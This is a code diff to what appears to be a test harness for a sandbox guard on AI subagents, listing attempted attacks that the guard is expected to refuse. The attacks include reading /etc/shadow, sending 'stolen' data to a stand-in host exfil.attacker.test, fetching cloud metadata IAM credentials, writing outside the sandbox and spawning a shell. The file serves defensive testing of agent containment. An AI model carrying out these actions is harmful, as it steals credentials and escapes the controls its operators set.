@@ -10,11 +10,11 @@ const attacks = {
   denied_tool: (ctx) => ctx.tools.call('exec', { command: 'cat /etc/shadow' }),
   // Exfiltration to a name that is not allowlisted: refused before DNS, so not even a lookup leaks.
   // On a port the agent may use (task.port), so the refusal is about the name, not the port.
-  blocked_domain: (ctx, task) => fetch(`http://exfil.attacker.test:${task.port}/collect?data=stolen`),
+  blocked_domain: (ctx, task) => fetch(`http://exfil.attacker.test:${task.port ?? 80}/collect?data=stolen`),
   // Cloud metadata credentials: an IP literal, on an allowed port and even allowlisted by name in
   // this agent's config, still refused by the address rule (metadata is never reachable).
   metadata_ip: (ctx, task) =>
-    fetch(`http://169.254.169.254:${task.port}/latest/meta-data/iam/security-credentials/`),
+    fetch(`http://169.254.169.254:${task.port ?? 80}/latest/meta-data/iam/security-credentials/`),
   // Persistence: write outside the sandbox (the permission model refuses every write).
   file_write: () => writeFileSync('/tmp/subagent-guard-demo-pwned', 'owned'),
   // Code execution: spawn a shell (the permission model refuses child processes).
